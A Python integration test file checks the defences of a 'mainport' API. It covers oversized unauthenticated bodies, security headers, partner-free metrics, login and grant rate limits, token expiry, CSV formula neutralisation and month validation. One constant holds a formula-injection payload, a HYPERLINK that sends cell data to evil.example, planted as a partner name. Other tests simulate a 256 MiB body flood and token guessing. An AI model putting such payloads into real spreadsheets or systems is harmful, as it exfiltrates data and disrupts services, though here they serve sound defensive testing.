"""The API's own defences, attacked over real HTTP against a real `mainport api` process: body
limits before authentication, security headers, partner-free public metrics, failed-login and
grant-change limits, token expiry, CSV cells that cannot run, and months out of range."""

from __future__ import annotations

import contextlib
import os
import re
import socket
import threading
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from wsgiref.simple_server import WSGIServer, make_server

import httpx
import pytest
import yaml
from prometheus_client import CollectorRegistry, Counter, make_wsgi_app
from sqlalchemy import update

from access.tokens import OPERATOR, PARTNER, TokenStore
from api.routes.health import without_partner_labels
from controlplane.tables import api_tokens
from core.processes import Child, free_port
from tests.conftest import PARTNERS_FILE, REPO, control_engine
from tests.integration.access_common import bearer, start_api
from tests.integration.conftest import Influx
from timeseries.client import InfluxClient
from timeseries.schema import ensure_schema

pytestmark = pytest.mark.integration

A = "gemeente-dordrecht"
B = "bouwbedrijf-drechtsteden"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
AUTH_FAILURES_MAX = 5
GRANT_CHANGES = 3
MiB = 1024 * 1024


@dataclass
class Api:
    child: Child
    base: str
    port: int
    data_dir: Path
    env: dict[str, str]
    operator: str
    partner: str


def _ingest_metrics_server() -> tuple[WSGIServer, int]:
    """Prometheus text shaped as the ingest's: per-partner counters (ingest/metrics.py)."""
    registry = CollectorRegistry()
    received = Counter(
        "mainport_ingest_received", "MQTT messages received", ["partner"], registry=registry
    )
    rejected = Counter(
        "mainport_ingest_rejected", "Dead letters", ["partner", "reason"], registry=registry
    )
    received.labels(A).inc(7)
    received.labels("woonbron").inc(5)
    rejected.labels(A, "bad_json").inc(2)
    rejected.labels("woonbron", "bad_json").inc(1)
    port = free_port()
    server = make_server("127.0.0.1", port, make_wsgi_app(registry))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, port


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory, influxd: Influx) -> Iterator[Api]:
    root = tmp_path_factory.mktemp("lockdown")
    partners = yaml.safe_load(PARTNERS_FILE.read_text())
    partners["partners"][1]["name"] = FORMULA_NAME  # woonbron, named by someone hostile
    partners_file = root / "partners.yaml"
    partners_file.write_text(yaml.safe_dump(partners, sort_keys=False))
    influx = InfluxClient(influxd.url, f"test_{uuid.uuid4().hex[:12]}")
    ensure_schema(influx, "400d")
    data_dir = root / "var"
    tokens = TokenStore(control_engine(data_dir))
    operator, partner = tokens.issue(OPERATOR), tokens.issue(PARTNER, A)
    server, metrics_port = _ingest_metrics_server()
    env = {k: v for k, v in os.environ.items() if not k.startswith("MAINPORT_")}
    env.update(
        MAINPORT_PARTNERS_FILE=str(partners_file),
        MAINPORT_DATA_DIR=str(data_dir),
        MAINPORT_INFLUX_URL=influxd.url,
        MAINPORT_INFLUX_DB=influx.db,
        MAINPORT_MQTT_PORT=str(free_port()),  # nothing there: no endpoint here needs a broker
        MAINPORT_INGEST_METRICS_PORT=str(metrics_port),
        MAINPORT_API_AUTH_FAILURES_MAX=str(AUTH_FAILURES_MAX),
        MAINPORT_API_GRANT_CHANGES_PER_MINUTE=str(GRANT_CHANGES),
        PYTHONUNBUFFERED="1",
    )
    child, base = start_api(env, root / "log")
    try:
        yield Api(child, base, int(base.rsplit(":", 1)[1]), data_dir, env, operator, partner)
    finally:
        child.stop()
        server.shutdown()
        server.server_close()
        influx.query(f'DROP DATABASE "{influx.db}"', db=False)
        influx.close()


def _rss_bytes(pid: int | None) -> int:
    assert pid is not None
    status = Path(f"/proc/{pid}/status").read_text()
    match = re.search(r"^VmRSS:\s+(\d+) kB", status, re.MULTILINE)
    assert match, status
    return int(match[1]) * 1024


def _answer(sock: socket.socket) -> bytes:
    sock.settimeout(30)
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            break
        data += chunk
    return data


# --- request bodies ------------------------------------------------------------------------


def test_a_256_mb_unauthenticated_body_is_refused_before_it_is_read(api: Api) -> None:
    before = _rss_bytes(api.child.pid)
    head = (
        f"POST /api/v1/partners/{A}/grants HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        f"Content-Type: application/json\r\nContent-Length: {256 * MiB}\r\n\r\n"
    ).encode()
    # Declared: the 413 comes back although not one byte of the body was sent.
    with socket.create_connection(("127.0.0.1", api.port)) as sock:
        sock.sendall(head)
        assert _answer(sock).startswith(b"HTTP/1.1 413 ")
    # Streamed (chunked, no length): cut off at the limit; we stop when the API hangs up.
    sent = 0
    answer = b""
    with socket.create_connection(("127.0.0.1", api.port)) as sock:
        sock.sendall(
            f"POST /api/v1/partners/{A}/grants HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
        )
        chunk = b"%x\r\n" % MiB + b"[" * MiB + b"\r\n"
        try:
            while sent < 256 * MiB:
                sock.sendall(chunk)
                sent += MiB
        except (BrokenPipeError, ConnectionResetError):
            pass
        with contextlib.suppress(ConnectionResetError, TimeoutError):
            answer = _answer(sock)
    assert sent < 256 * MiB or answer.startswith(b"HTTP/1.1 413 ")
    grown = _rss_bytes(api.child.pid) - before
    assert grown < 32 * MiB, f"the API grew by {grown // MiB} MiB"
    assert httpx.get(f"{api.base}/healthz").status_code == 200


def test_a_body_within_the_limit_still_gets_its_401(api: Api) -> None:
    answer = httpx.post(
        f"{api.base}/api/v1/partners/{A}/grants", json={"grantee": B, "devices": ["x"]}
    )
    assert answer.status_code == 401


# --- headers -------------------------------------------------------------------------------


class _InlineFinder(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.inline: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = {name for name, _ in attrs}
        if tag == "script" and "src" not in names:
            self.inline.append("<script> without src")
        if tag == "style":
            self.inline.append("<style>")
        self.inline += [
            f"{tag} {name}=" for name in names if name == "style" or name.startswith("on")
        ]


@pytest.mark.parametrize(
    "path", ["/", "/static/app.js", "/healthz", "/api/v1/partners", "/openapi.json", "/nothing"]
)
def test_every_answer_carries_the_security_headers(api: Api, path: str) -> None:
    answer = httpx.get(f"{api.base}{path}")
    csp = answer.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "no-referrer"
    assert answer.headers["x-frame-options"] == "DENY"


def test_the_413_and_the_429_carry_them_too(api: Api) -> None:
    big = httpx.post(f"{api.base}/api/v1/partners/{A}/grants", content=b"[" * (65 * 1024))
    assert big.status_code == 413
    assert "frame-ancestors 'none'" in big.headers["content-security-policy"]


def test_the_dashboard_has_no_inline_script_or_style_the_csp_would_block() -> None:
    static = REPO / "api" / "static"
    assert list(static.glob("*.html")) and list(static.glob("*.js")), static  # it checks files
    for page in static.glob("*.html"):
        finder = _InlineFinder()
        finder.feed(page.read_text())
        assert finder.inline == [], page.name
    for script in static.glob("*.js"):  # style attributes set from script count as inline
        assert not re.search(r"setAttribute\(\s*[\"']style", script.read_text()), script.name
        assert not re.search(r"\bstyle:\s*`", script.read_text()), script.name


def test_no_cdn_docs_page_on_the_dashboards_origin_but_the_openapi_document_stays(
    api: Api,
) -> None:
    assert httpx.get(f"{api.base}/docs").status_code == 404
    assert httpx.get(f"{api.base}/redoc").status_code == 404
    assert "/api/v1/partners" in httpx.get(f"{api.base}/openapi.json").json()["paths"]


# --- metrics -------------------------------------------------------------------------------


def test_public_metrics_are_platform_totals_without_partner_labels(api: Api) -> None:
    text = httpx.get(f"{api.base}/metrics").text
    assert "partner=" not in text
    assert A not in text and "woonbron" not in text
    assert re.search(r"^mainport_ingest_received_total 12\.0$", text, re.MULTILINE), text
    assert 'mainport_ingest_rejected_total{reason="bad_json"} 3.0' in text
    assert "mainport_api_requests_total" in text


def test_per_partner_metrics_are_for_the_operator_only(api: Api) -> None:
    url = f"{api.base}/api/v1/metrics"
    assert httpx.get(url).status_code == 401
    assert httpx.get(url, headers=bearer(api.partner)).status_code == 403
    full = httpx.get(url, headers=bearer(api.operator))
    assert full.status_code == 200
    assert f'mainport_ingest_received_total{{partner="{A}"}} 7.0' in full.text


def test_summing_away_the_partner_label_keeps_other_labels_and_families() -> None:
    text = (
        "# HELP x_total d\n# TYPE x_total counter\n"
        'x_total{partner="a",reason="r"} 1.0\nx_total{partner="b",reason="r"} 2.0\n'
        'x_total{partner="b",reason="s"} 4.0\n'
        "# HELP up u\n# TYPE up gauge\nup 1.0\n"
    )
    out = without_partner_labels(text).decode()
    assert 'x_total{reason="r"} 3.0' in out and 'x_total{reason="s"} 4.0' in out
    assert "up 1.0" in out and "partner" not in out


# --- failed logins and grant changes -------------------------------------------------------


def _from(address: str) -> httpx.Client:
    return httpx.Client(transport=httpx.HTTPTransport(local_address=address), timeout=10)


def test_too_many_failed_logins_from_one_address_get_429_and_others_are_not_locked_out(
    api: Api,
) -> None:
    url = f"{api.base}/api/v1/partners"
    with _from("127.0.0.2") as attacker, _from("127.0.0.3") as bystander:
        for guess in range(AUTH_FAILURES_MAX):
            wrong = f"mp_{api.operator.split('_')[1]}_guess{guess}"
            assert attacker.get(url, headers=bearer(wrong)).status_code == 401
        blocked = attacker.get(url, headers=bearer("mp_000000000000_more"))
        assert blocked.status_code == 429
        assert 0 < int(blocked.headers["retry-after"]) <= 60
        # The right token does not get through from there either: no oracle for a guesser.
        assert attacker.get(url, headers=bearer(api.operator)).status_code == 429
        # Everyone else is served as before, and counted on their own.
        assert bystander.get(url, headers=bearer(api.operator)).status_code == 200
        assert bystander.get(url, headers=bearer("mp_000000000000_x")).status_code == 401
        assert bystander.get(url, headers=bearer(api.operator)).status_code == 200


def test_a_missing_token_is_not_counted_as_a_guess(api: Api) -> None:
    with _from("127.0.0.4") as browser:
        for _ in range(AUTH_FAILURES_MAX + 3):
            assert browser.get(f"{api.base}/api/v1/partners").status_code == 401
        assert (
            browser.get(f"{api.base}/api/v1/partners", headers=bearer(api.operator)).status_code
            == 200
        )


def test_grant_changes_are_rate_limited_per_token(api: Api) -> None:
    url = f"{api.base}/api/v1/partners/{A}/grants"
    body = {"grantee": B, "devices": ["aq-spuiboulevard"], "purpose": "rate limit test"}
    answers = [
        httpx.post(url, json=body, headers=bearer(api.partner)).status_code
        for _ in range(GRANT_CHANGES + 1)
    ]
    assert answers[:GRANT_CHANGES] == [201] + [200] * (GRANT_CHANGES - 1)
    assert answers[GRANT_CHANGES] == 429
    # Another token is not held back by this one.
    assert httpx.post(url, json=body, headers=bearer(api.operator)).status_code == 200


# --- token expiry --------------------------------------------------------------------------


def test_a_token_with_an_expiry_works_until_then_and_gets_401_after(api: Api) -> None:
    import subprocess
    import sys

    def cli(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "mainport", *args],
            env=api.env,
            capture_output=True,
            text=True,
            timeout=60,
        )

    issued = cli("token", "issue", "--operator", "--expires", "30d", "--label", "short")
    assert issued.returncode == 0, issued.stderr
    token = issued.stdout.strip()
    token_id = token.split("_")[1]
    listed = [line for line in cli("token", "list").stdout.splitlines() if token_id in line]
    expected = (datetime.now(UTC) + timedelta(days=30)).date().isoformat()
    assert len(listed) == 1 and expected in listed[0]
    url = f"{api.base}/api/v1/partners"
    assert httpx.get(url, headers=bearer(token)).status_code == 200

    # Thirty days later, as the API sees it: the stored expiry is now in the past.
    with control_engine(api.data_dir).begin() as conn:
        conn.execute(
            update(api_tokens)
            .where(api_tokens.c.id == token_id)
            .values(expires_at=datetime.now(UTC) - timedelta(seconds=1))
        )
    assert httpx.get(url, headers=bearer(token)).status_code == 401
    assert httpx.get(url, headers=bearer(api.operator)).status_code == 200  # no expiry: valid

    for bad in ("yesterday", "2001-01-01T00:00:00Z", "0d"):
        refused = cli("token", "issue", "--operator", "--expires", bad)
        assert refused.returncode != 0 and "--expires" in refused.stderr
        assert refused.stdout == ""


# --- the monthly report --------------------------------------------------------------------


def test_report_csv_cells_that_would_start_a_formula_are_neutralised(api: Api) -> None:
    month = datetime.now(UTC).strftime("%Y-%m")
    csv = httpx.get(
        f"{api.base}/api/v1/report",
        params={"month": month},
        headers={**bearer(api.operator), "Accept": "text/csv"},
    )
    assert csv.status_code == 200, csv.text
    cells = [line.split(",", 2)[:2] for line in csv.text.splitlines()[1:]]
    names = dict(cells)
    assert names["woonbron"].startswith(("'=", "\"'="))
    assert not any(name.lstrip('"').startswith(("=", "+", "-", "@")) for name in names.values())
    # The JSON form is data, not a spreadsheet: the name as registered.
    rows = httpx.get(
        f"{api.base}/api/v1/report", params={"month": month}, headers=bearer(api.operator)
    ).json()
    assert {r["partner"]: r["name"] for r in rows}["woonbron"] == FORMULA_NAME


@pytest.mark.parametrize("month", ["0000-01", "1677-01", "1999-12", "9999-12", "2999-01"])
def test_months_outside_2000_to_now_are_422_not_500(api: Api, month: str) -> None:
    answer = httpx.get(
        f"{api.base}/api/v1/report", params={"month": month}, headers=bearer(api.operator)
    )
    assert answer.status_code == 422, answer.text
    assert month in answer.json()["detail"]
